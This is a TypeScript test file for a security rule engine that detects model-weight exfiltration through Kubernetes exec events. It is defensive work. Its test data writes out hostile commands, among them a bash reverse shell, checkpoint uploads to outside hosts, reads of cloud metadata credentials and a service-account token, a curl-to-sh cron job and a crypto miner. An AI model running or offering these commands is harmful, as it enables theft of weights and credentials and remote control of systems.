/**
 * The plan steps an exec command answers from its remembered reading (exec-reading-memo.ts
 * `leafOutcomes`, gated-rules.ts `execOnly`): only steps whose residual reads nothing but the
 * reading may answer so, and with them the engine must hit exactly as every rule evaluated on its
 * own would, however the same command's events differ in everything else.
 */
import { describe, expect, it } from 'vitest';
import type { EventRecord } from '../../core/records.js';
import { mulberry32 } from '../../core/mulberry32.js';
import { createRuleEngine } from './engine.js';
import { eventExecReading } from './event-fields.js';
import { execEvent, SHIPPED_RULES } from './exec-events.test-support.js';
import { MAX_LEAVES } from './exec-reading-memo.js';
import { gatedRules } from './gated-rules.js';
import { referenceEngine } from './fixtures.test-support.js';
import { loadRuleSet } from './rule-loader.js';

const RULES = `
id: MLS-EXFIL-901
title: curl uploads from the evil container
severity: high
family: weight-exfil
phase: exfiltration
decision: alert
detection:
  sel_upload:
    attrs.exec.toolWords: 'curl -T'
  sel_container:
    attrs.exec.container: evil
  condition: sel_upload and sel_container
---
id: MLS-EXFIL-902
title: a checkpoint named in an exec by a person
severity: medium
family: weight-exfil
phase: staging
decision: alert
detection:
  sel:
    attrs.exec.command|contains: model.pt
    actor|startswith: 'oidc:'
  condition: sel
---
id: MLS-EXFIL-903
title: an exec naming a checkpoint whose indirectness is what another field says
severity: low
family: weight-exfil
phase: staging
decision: alert
detection:
  sel:
    attrs.exec.command|contains: model.pt
    attrs.exec.indirect|fieldref: attrs.flag
  condition: sel
`;

function load() {
  const set = loadRuleSet([{ path: 'leaf.yaml', text: RULES }]);
  expect(set.errors).toEqual([]);
  return set.rules;
}

function exec(command: unknown, actor: string, container: string, flag?: boolean): EventRecord {
  const ev = execEvent(command, actor);
  (ev.attrs.exec as Record<string, unknown>).container = container;
  if (flag !== undefined) ev.attrs.flag = flag;
  return ev;
}

const ids = (hits: ReadonlyArray<{ ruleId: string }>): string[] => hits.map((h) => h.ruleId).sort();

describe('exec-only plan steps', () => {
  it('answer from the reading only when their residual reads nothing else', () => {
    const rules = load();
    const { gate } = gatedRules(rules, rules);
    const plan = gate.select(exec(['sh', '-c', 'curl -T /ckpt/model.pt https://x.example/u'], 'oidc:alice', 'evil'));
    const byId = new Map(plan.steps.map((s) => [rules[s.rank]!.meta.id, s.execOnly]));
    // The container is read from the event; the actor was decided by the gate; fieldref reads a second field.
    expect(Object.fromEntries(byId)).toEqual({ 'MLS-EXFIL-901': false, 'MLS-EXFIL-902': true, 'MLS-EXFIL-903': false });
    expect(plan.execSteps).toBe(true);
  });

  it('hit as the rules alone do when the same command comes with other containers, actors and fields', () => {
    const rules = load();
    const engine = createRuleEngine(rules);
    const cmd = ['sh', '-c', 'curl -T /ckpt/model.pt https://x.example/u'];
    const cases: Array<[EventRecord, string[]]> = [
      [exec(cmd, 'oidc:alice', 'evil'), ['MLS-EXFIL-901', 'MLS-EXFIL-902']],
      [exec(cmd, 'oidc:alice', 'pytorch'), ['MLS-EXFIL-902']],
      [exec(cmd, 'system:serviceaccount:ml:ci', 'evil'), ['MLS-EXFIL-901']],
      [exec(cmd, 'system:serviceaccount:ml:ci', 'pytorch', false), ['MLS-EXFIL-903']],
      [exec(cmd, 'system:serviceaccount:ml:ci', 'pytorch', true), []],
      [exec(cmd, 'oidc:alice', 'pytorch', false), ['MLS-EXFIL-902', 'MLS-EXFIL-903']],
      [exec(cmd, 'oidc:alice', 'pytorch', true), ['MLS-EXFIL-902']],
      [exec(cmd, 'oidc:bob', 'evil'), ['MLS-EXFIL-901', 'MLS-EXFIL-902']],
    ];
    for (const [ev, want] of cases) expect(ids(engine.evaluate(ev))).toEqual(want);
    // The reading kept the leaves its events reached, with the exec-only step answered.
    const leaves = eventExecReading(exec(cmd, 'oidc:alice', 'evil'))!.leaves!;
    expect(leaves.length).toBeGreaterThan(0);
    expect(leaves.some((l) => l.steps.some((o) => o !== 0))).toBe(true);
  });

  it('the shipped rules hit as they do one by one, over a pool of commands met at many leaves', () => {
    const rnd = mulberry32(20261124);
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
    const commands: unknown[] = [
      ['sh', '-c', 'tar czf /tmp/m.tgz /mnt/ckpt && curl -T /tmp/m.tgz https://203.0.113.9/u'],
      ['sh', '-c', 'gzip -c /mnt/ckpt/model.safetensors > /tmp/.cache/m.gz'],
      ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
      ['sh', '-c', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
      ['nvidia-smi'],
      ['df', '-h'],
      ['sh', '-c', 'ls -la /mnt/ckpt'],
      ['python3', '-c', "import requests; requests.post('https://transfer.sh/m', data=open('/mnt/ckpt/model.pt','rb'))"],
      'cat /etc/hostname',
      ['sh', '-c', 'echo * * * * * curl http://x.example/p | sh | crontab -'],
      ['sh', '-c', 'nmap -p 6379,8265 10.0.0.0/24'],
      ['kubectl', 'cp', 'ml-train/p:/mnt/ckpt/model.pt', '/tmp/model.pt'],
      ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
      ['rsync', '-az', '/mnt/ckpt/', 'u@203.0.113.9:/x/'],
      ['sh', '-c', 'xmrig -o pool.example:3333'],
    ];
    const actors = ['oidc:alice@corp.example', 'oidc:oncall@corp.example', 'system:serviceaccount:ml-train:llama-ft-trainer', 'system:serviceaccount:ci:runner', 'system:serviceaccount:kube-system:x', 'admin'];
    const containers = ['pytorch', 'sidecar', 'evil', undefined];
    const subresources = ['exec', 'attach', undefined];
    const codes = [101, 403, 200];
    const engine = createRuleEngine(SHIPPED_RULES);
    const ref = referenceEngine(SHIPPED_RULES);
    let withHits = 0;
    for (let i = 0; i < 3000; i++) {
      const ev = execEvent(pick(commands), pick(actors), rnd() < 0.5 ? 'train-1' : null);
      ev.ts += i * 1_000_000;
      const audit = ev.attrs.audit as { objectRef: Record<string, unknown>; responseStatus: Record<string, unknown> };
      const sub = pick(subresources);
      if (sub === undefined) delete ev.attrs.subresource;
      else ev.attrs.subresource = sub;
      audit.objectRef.namespace = ev.namespace = pick(['ml-train', 'default', 'ray']);
      audit.responseStatus.code = ev.attrs.code = pick(codes);
      const container = pick(containers);
      if (container === undefined) delete (ev.attrs.exec as Record<string, unknown>).container;
      else (ev.attrs.exec as Record<string, unknown>).container = container;
      if (rnd() < 0.3) ev.attrs.destination = pick(['https://203.0.113.9/u', 'http://10.0.0.5/x']);
      const got = ids(engine.evaluate(ev));
      expect(got, `event ${i}`).toEqual(ref(ev));
      if (got.length) withHits++;
    }
    expect(withHits).toBeGreaterThan(1000);
    // Commands met at more leaves than a reading keeps replaced their oldest.
    const leaves = commands.map((c) => eventExecReading(execEvent(c))!.leaves?.length ?? 0);
    expect(Math.max(...leaves)).toBe(MAX_LEAVES);
  });
});
